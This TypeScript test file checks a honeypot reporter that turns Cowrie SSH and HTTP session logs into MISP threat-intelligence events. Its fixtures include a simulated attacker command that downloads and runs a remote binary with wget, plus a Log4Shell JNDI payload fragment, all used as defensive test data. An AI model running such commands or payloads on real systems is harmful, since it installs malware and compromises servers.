import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Secret } from '@waggle/errors';
import { freePort, startListeningServer, type ListeningServer } from '../../../server/src/test-support/listening-server.js';
import type { CowrieRecord } from './cowrie-record.js';
import { createMispClient } from '@waggle/client';
import { createReporter } from './reporter.js';

type J = Record<string, unknown>;
const T0 = Date.parse('2026-12-02T10:05:00Z');
const ts = (s: number): string => `${new Date(T0 + s * 1000).toISOString().slice(0, 23)}000Z`;

function sshSession(session: string, ip: string, at: number): CowrieRecord[] {
  const env = { session, src_ip: ip, src_port: 40000, dst_ip: '192.0.2.10', dst_port: 2222, sensor: 'hp-test', protocol: 'ssh' };
  return [
    { ...env, eventid: 'cowrie.session.connect', timestamp: ts(at), message: 'New connection' },
    { ...env, eventid: 'cowrie.client.version', timestamp: ts(at + 1), version: 'SSH-2.0-Go' },
    { ...env, eventid: 'cowrie.client.kex', timestamp: ts(at + 1), hassh: 'b5752e36ba6c5979a575e43178908adf', keyAlgs: ['ssh-ed25519'], encCS: ['aes128-ctr'], macCS: ['hmac-sha2-256'], compCS: ['none'] },
    { ...env, eventid: 'cowrie.login.failed', timestamp: ts(at + 2), username: 'root', password: 'root' },
    { ...env, eventid: 'cowrie.login.success', timestamp: ts(at + 3), username: 'root', password: 'hunter2' },
    { ...env, eventid: 'cowrie.command.input', timestamp: ts(at + 4), input: 'uname -a' },
    { ...env, eventid: 'cowrie.command.input', timestamp: ts(at + 5), input: 'cd /tmp; wget http://198.51.100.9/bins/x86 -O a; chmod +x a; ./a' },
    { ...env, eventid: 'cowrie.session.file_download', timestamp: ts(at + 6), url: 'http://198.51.100.9/bins/x86', outfile: 'dl/aa', destfile: '/tmp/a', shasum: 'a'.repeat(64) },
    { ...env, eventid: 'cowrie.session.closed', timestamp: ts(at + 7), duration: 7 },
  ];
}

function httpSession(session: string, ip: string, at: number): CowrieRecord[] {
  const env = { session, src_ip: ip, src_port: 41000, dst_ip: '192.0.2.10', dst_port: 8983, sensor: 'hp-test', protocol: 'http' };
  return [
    { ...env, eventid: 'cowrie.session.connect', timestamp: ts(at) },
    { ...env, eventid: 'waggle.http.request', timestamp: ts(at), method: 'GET', url: '/solr/', headers: {} },
    { ...env, eventid: 'waggle.http.exploit', timestamp: ts(at), cve: 'CVE-2021-44228', technique: 'T1190', detector: 'log4j-jndi-lookup', profile: 'log4shell', evidence: ['any: ${jndi:ldap:'] },
    { ...env, eventid: 'cowrie.session.closed', timestamp: ts(at + 1), duration: 1 },
  ];
}

const objectsOf = (ev: J, name: string): J[] => ((ev.Object ?? []) as J[]).filter((o) => o.name === name);
const relations = (o: J): Record<string, string[]> => {
  const out: Record<string, string[]> = {};
  for (const a of o.Attribute as J[]) (out[String(a.object_relation)] ??= []).push(String(a.value));
  return out;
};

describe('reporter into a running waggle server (MISP REST API over 127.0.0.1)', () => {
  let srv: ListeningServer;
  let spoolDir: string;
  beforeAll(async () => {
    srv = await startListeningServer();
    spoolDir = mkdtempSync(join(tmpdir(), 'hp-spool-'));
  });
  afterAll(async () => {
    await srv.close();
    rmSync(spoolDir, { recursive: true, force: true });
  });

  it('turns a session into a cowrie object, tags CVEs and techniques, and sights an existing indicator', async () => {
    const existing = await srv.server.call('POST', '/events/add', { info: 'shared by a partner', Attribute: [{ type: 'ip-dst', value: '203.0.113.50', to_ids: true }] });
    expect(existing.status).toBe(200);
    const existingAttr = (((existing.json as J).Event as J).Attribute as J[])[0] as J;

    const reporter = createReporter({ client: createMispClient({ url: srv.url, key: new Secret(srv.server.adminKey) }), spoolDir, now: () => new Date(T0 + 3_600_000), windowMs: 3_600_000 });
    for (const r of [...sshSession('aaaaaaaaaaa1', '203.0.113.50', 0), ...httpSession('aaaaaaaaaaa2', '203.0.113.50', 60)]) reporter.ingest(r);
    expect(reporter.cut()).toBe(1);
    const result = await reporter.drain();
    expect(result).toEqual({ sent: 1, rejected: 0, pending: 0 });

    const uuid = (await srv.server.call('POST', '/events/restSearch', { eventinfo: '%activity from 203.0.113.50%' })).json as J;
    const events = (uuid.response as J[]).map((e) => e.Event as J);
    expect(events.length).toBe(1);
    const ev = ((await srv.server.call('GET', `/events/view/${String((events[0] as J).uuid)}`)).json as J).Event as J;
    const cowrie = objectsOf(ev, 'cowrie');
    expect(cowrie.length).toBe(2);
    const ssh = cowrie.map(relations).find((r) => r.session?.[0] === 'aaaaaaaaaaa1') as Record<string, string[]>;
    expect(ssh.src_ip).toEqual(['203.0.113.50']);
    expect(ssh.username).toEqual(['root']);
    expect(ssh.password?.sort()).toEqual(['hunter2', 'root']);
    expect(ssh.eventid).toEqual(['cowrie.login.success']);
    expect(ssh.hassh).toEqual(['b5752e36ba6c5979a575e43178908adf']);
    expect(ssh.input?.[0]).toContain('wget http://198.51.100.9/bins/x86');
    expect(ssh.timestamp?.[0]).toMatch(/^2026-12-02T10:05:00/);
    const file = objectsOf(ev, 'file').map(relations)[0] as Record<string, string[]>;
    expect(file.sha256).toEqual(['a'.repeat(64)]);
    const attrs = (ev.Attribute as J[]).map((a) => `${String(a.type)}|${String(a.value)}`);
    expect(attrs).toEqual(expect.arrayContaining(['ip-src|203.0.113.50', 'url|http://198.51.100.9/bins/x86', 'vulnerability|CVE-2021-44228']));
    const tags = ((ev.Tag ?? []) as J[]).map((t) => t.name);
    expect(tags).toEqual(expect.arrayContaining(['cve:CVE-2021-44228', 'misp-galaxy:mitre-attack-pattern="Exploit Public-Facing Application - T1190"', 'misp-galaxy:mitre-attack-pattern="Password Guessing - T1110.001"']));

    const sightings = (await srv.server.call('POST', '/sightings/list_sightings', { id: String(existingAttr.id), context: 'attribute' })).json as J[];
    expect(sightings.length).toBe(1);
    expect((sightings[0]?.Sighting as J).source).toBe('hp-test');
  });

  it('loses nothing and duplicates nothing across a server outage', async () => {
    const port = await freePort();
    const dir = mkdtempSync(join(tmpdir(), 'hp-spool-'));
    let calls = 0;
    let failFrom = Infinity;
    // Fails every request from the `failFrom`-th on, as if the server died mid-batch.
    const flaky: typeof fetch = async (input, init) => {
      calls += 1;
      if (calls >= failFrom) throw new TypeError('fetch failed (connection reset)');
      return fetch(input, init);
    };
    let now = T0 + 7_200_000;
    const reporter = createReporter({ client: createMispClient({ url: `http://127.0.0.1:${String(port)}`, key: new Secret(srv.server.adminKey), fetch: flaky }), spoolDir: dir, now: () => new Date(now), windowMs: 600_000, retryBaseMs: 50 });
    // Three attackers, two windows for one of them: four batches.
    const ips = ['198.18.0.1', '198.18.0.2', '198.18.0.3'];
    ips.forEach((ip, i) => sshSession(`bbbbbbbbbb${String(i)}0`, ip, 7200 + i).forEach((r) => reporter.ingest(r)));
    sshSession('bbbbbbbbbb31', '198.18.0.1', 7200 + 900).forEach((r) => reporter.ingest(r));
    expect(reporter.cut()).toBe(4);

    // Nothing listens on the port: every batch stays in the spool.
    const down = await reporter.drain();
    expect(down.sent).toBe(0);
    expect(down.pending).toBe(4);
    expect(down.error).toMatch(/unreachable/);
    expect(reporter.spool.list().length).toBe(4);

    // Up on that port, but the server "dies" in the middle of the second batch.
    const up = await startListeningServerOn(port, srv);
    try {
      // Batch one takes 5 requests (view, add, 3 indicator searches); batch two dies after its event is stored.
      failFrom = calls + 8;
      const partial = await reporter.drain();
      expect(partial.sent).toBe(1);
      expect(partial.pending).toBe(3);
      failFrom = Infinity;
      now += 60_000;
      const rest = await reporter.drain();
      expect(rest).toEqual({ sent: 3, rejected: 0, pending: 0 });
      // The same sessions reported again (say, the log re-read after a restart) change nothing.
      const again = createReporter({ client: createMispClient({ url: `http://127.0.0.1:${String(port)}`, key: new Secret(srv.server.adminKey) }), spoolDir: dir, now: () => new Date(now), windowMs: 600_000 });
      ips.forEach((ip, i) => sshSession(`bbbbbbbbbb${String(i)}0`, ip, 7200 + i).forEach((r) => again.ingest(r)));
      expect(again.cut()).toBe(3);
      expect(await again.drain()).toEqual({ sent: 3, rejected: 0, pending: 0 });
    } finally {
      await up();
    }
    for (const [ip, sessions] of [['198.18.0.1', ['bbbbbbbbbb00', 'bbbbbbbbbb31']], ['198.18.0.2', ['bbbbbbbbbb10']], ['198.18.0.3', ['bbbbbbbbbb20']]] as const) {
      const found = ((await srv.server.call('POST', '/events/restSearch', { eventinfo: `%activity from ${ip} %` })).json as J).response as J[];
      const all = found.flatMap((e) => objectsOf(e.Event as J, 'cowrie').map((o) => relations(o).session?.[0]));
      expect(all.sort()).toEqual([...sessions].sort());
    }
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('reporter: batches the server refuses', () => {
  let srv: ListeningServer;
  beforeAll(async () => {
    srv = await startListeningServer();
  });
  afterAll(async () => srv.close());

  it('keeps batches on a bad key and sets invalid ones aside without blocking the rest', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'hp-spool-'));
    try {
      const records = [...sshSession('cccccccccc01', 'not-an-ip', 0), ...sshSession('cccccccccc02', '203.0.113.77', 30)];
      const badKey = createReporter({ client: createMispClient({ url: srv.url, key: new Secret('x'.repeat(40)) }), spoolDir: dir, now: () => new Date(T0 + 3_600_000) });
      records.forEach((r) => badKey.ingest(r));
      expect(badKey.cut()).toBe(2);
      const refused = await badKey.drain();
      expect(refused.sent).toBe(0);
      expect(refused.pending).toBe(2);
      expect(refused.error).toMatch(/HTTP 40[13]/);

      const good = createReporter({ client: createMispClient({ url: srv.url, key: new Secret(srv.server.adminKey) }), spoolDir: dir, now: () => new Date(T0 + 3_600_000) });
      const r = await good.drain();
      expect(r).toEqual({ sent: 1, rejected: 1, pending: 0 });
      expect(readdirSync(join(dir, 'rejected')).length).toBe(1);
      const found = ((await srv.server.call('POST', '/events/restSearch', { eventinfo: '%activity from 203.0.113.77%' })).json as J).response as J[];
      expect(found).toHaveLength(1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/**
 * Serves the already-running test server's app on `port` too, through a plain
 * proxy-free second listener: fastify can listen once, so we route a node http
 * server to the same app handler.
 */
async function startListeningServerOn(port: number, srv: ListeningServer): Promise<() => Promise<void>> {
  const { createServer } = await import('node:http');
  const handler = srv.server.app.server.listeners('request')[0] as (req: unknown, res: unknown) => void;
  const s = createServer((req, res) => handler(req, res));
  await new Promise<void>((r) => s.listen(port, '127.0.0.1', r));
  return () => new Promise<void>((r) => {
    s.closeAllConnections();
    s.close(() => r());
  });
}
